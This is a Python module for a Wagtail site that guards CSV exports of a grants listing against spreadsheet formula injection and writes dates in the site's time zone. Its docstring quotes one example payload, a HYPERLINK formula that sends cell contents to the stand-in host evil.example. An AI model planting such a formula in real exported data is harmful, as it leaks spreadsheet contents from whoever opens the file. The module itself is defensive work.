"""CSV and XLSX export of the grants listing (Wagtail's ``list_export``), safe to open in a
spreadsheet.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula
to Excel, LibreOffice and Google Sheets when it comes from a CSV file ("CSV injection"):
a name such as ``=HYPERLINK("http://evil.example/?"&A1)`` would run when an editor opens the
export. Such text cells get a leading ``'``, which the spreadsheet shows as text. In XLSX,
cells are typed: Wagtail writes text as text (a cell it would take for a formula is stored
as a string), so the value is kept as it is there.
"""

from __future__ import annotations

import datetime

from django.utils import timezone

__all__ = ["FORMULA_PREFIXES", "NeutralisingExportMixin", "neutralise"]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def _csv_moment(value: datetime.datetime) -> str:
    """A moment in the site's time zone, ``YYYY-MM-DD HH:MM`` (what the import reads back)."""
    if timezone.is_aware(value):
        value = timezone.localtime(value)
    return value.strftime("%Y-%m-%d %H:%M")


class NeutralisingExportMixin:
    """For an ``IndexView`` with ``list_export``: every CSV text cell through
    :func:`neutralise`, and moments written in the site's time zone."""

    def preprocess_field_value(self, field, value, export_format):
        if export_format == self.FORMAT_CSV and isinstance(value, datetime.datetime):
            return _csv_moment(value)
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == self.FORMAT_CSV:
            return neutralise(value)
        return value
